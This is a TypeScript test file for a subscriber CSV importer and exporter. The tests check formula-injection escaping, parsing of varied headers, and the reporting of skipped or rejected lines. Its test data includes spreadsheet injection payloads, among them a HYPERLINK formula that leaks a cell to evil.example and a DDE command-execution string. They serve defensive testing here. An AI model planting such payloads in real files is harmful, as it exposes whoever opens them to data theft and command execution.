import { expect, it } from 'vitest';
import type { Subscriber } from '../../../../src/domain/subscriber.ts';
import {
  formatSubscriberCsv,
  listSkippedLines,
  parseSubscriberCsv,
} from '../../../../src/dashboard/subscribers/subscriber-csv.ts';

const subscriber = (email: string, change: Partial<Subscriber> = {}): Subscriber => ({
  id: email,
  email,
  status: 'confirmed',
  created_at: '2026-11-01T10:00:00Z',
  confirmed_at: '2026-11-01T10:20:00Z',
  unsubscribed_at: null,
  consent: null,
  ...change,
});
const parse = (text: string) => {
  const parsed = parseSubscriberCsv(text);
  if (!parsed.ok) throw new Error(parsed.code);
  return parsed.value;
};
const dangers = [
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '\ufeff=1+1',
  'fair", =1+1',
];

it('writes 20,000 rows of which no spreadsheet runs one', () => {
  const rows = Array.from({ length: 20_000 }, (_, index) => {
    const danger = dangers[index % dangers.length] ?? '';
    return subscriber(`${danger}${index}@reader.example`, { consent: danger });
  });
  const csv = formatSubscriberCsv(rows);
  expect(csv.startsWith('\ufeffemail,status,signed up,confirmed,unsubscribed,consent\r\n')).toBe(
    true,
  );
  const cells = readCells(csv.slice(1));
  expect(cells).toHaveLength(6 * 20_001);
  const running = cells.filter((cell) => /^[\s\ufeff]*[=+\-@＝＋－＠]/.test(cell));
  expect(running).toEqual([]);
  // Nothing but the apostrophe was changed.
  expect(cells.at(6 + 5)).toBe(`'${dangers[0]}`);
  expect(cells.at(-1)).toBe(rows.at(-1)?.consent?.replace(/^(?=[\s=+\-@])/, "'"));
});

/** Reads CSV as RFC 4180 has it, with a reader that is not the library's. */
function readCells(csv: string): string[] {
  const cells = csv.match(/"(?:[^"]|"")*"|[^,\r\n]+|(?<=[,\n]|^)(?=[,\r])/g) ?? [];
  return cells.map((cell) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
}

it('reads what it wrote, and subscribes nobody who had left', () => {
  const csv = formatSubscriberCsv([
    subscriber('ada@reader.example', { consent: 'Fair, "by hand"\nin November' }),
    subscriber('+tag@reader.example'),
    subscriber('-minus@reader.example'),
    subscriber('left@reader.example', { status: 'unsubscribed' }),
    subscriber('new@reader.example', { status: 'pending' }),
  ]);
  const { lines, skipped } = parse(csv);
  expect([...lines]).toEqual([
    ['ada@reader.example', 2],
    ['+tag@reader.example', 4],
    ['-minus@reader.example', 5],
  ]);
  expect(skipped.map(({ line, reason }) => [line, reason])).toEqual([
    [6, 'status'],
    [7, 'status'],
  ]);
});

it.each([
  ['a header in another column', 'Name;E-Mail Address\nAda;ada@reader.example', 2],
  ['no header', 'ada@reader.example\nbea@reader.example', 1],
  ['tabs and spaces', 'Email\tName\n  ADA@Reader.Example \tAda\n', 2],
  ['a byte order mark and blank lines', '\ufeffemail\r\n\r\nada@reader.example\r\n', 3],
  ['quotation marks', '"email","name"\r\n"ada@reader.example","Vance, Ada"\r\n', 2],
])('reads a file with %s', (_, text, line) => {
  expect(parse(text).lines.get('ada@reader.example')).toBe(line);
});

it('names each line that it skips', () => {
  const text = 'email\nada@reader.example\nADA@reader.example\nnobody\n\nb@c@d.example\n=1+1';
  const { lines, skipped } = parse(text);
  expect([...lines.keys()]).toEqual(['ada@reader.example']);
  expect(skipped).toEqual([
    { line: 3, text: 'ada@reader.example', reason: 'repeated' },
    { line: 4, text: 'nobody', reason: 'invalid' },
    { line: 6, text: 'b@c@d.example', reason: 'invalid' },
    { line: 7, text: '=1+1', reason: 'invalid' },
  ]);
  const result = {
    added: 0,
    known: [],
    unsubscribed: ['ada@reader.example'],
    erased: [],
    invalid: [],
  };
  expect(listSkippedLines({ lines, skipped }, result).slice(0, 2)).toEqual([
    { line: 2, text: 'ada@reader.example', reason: 'unsubscribed' },
    { line: 3, text: 'ada@reader.example', reason: 'repeated' },
  ]);
});

it.each([
  ['nothing', '', 'no-column'],
  ['no address', 'name\nAda', 'no-column'],
  ['a header only', 'email\n\n', 'no-rows'],
  ['an open quotation', 'email\n"ada@reader.example', 'unreadable'],
  ['more than 50,000 lines', 'email\n'.repeat(50_001) + 'a', 'too-large'],
])('rejects a file with %s', (_, text, code) => {
  expect(parseSubscriberCsv(text)).toEqual({ ok: false, code });
});

it('reads 20,000 lines', () => {
  const rows = Array.from({ length: 20_000 }, (_, index) => `reader${index}@reader.example,Ada`);
  expect(parse(`email,name\n${rows.join('\n')}`).lines.size).toBe(20_000);
});
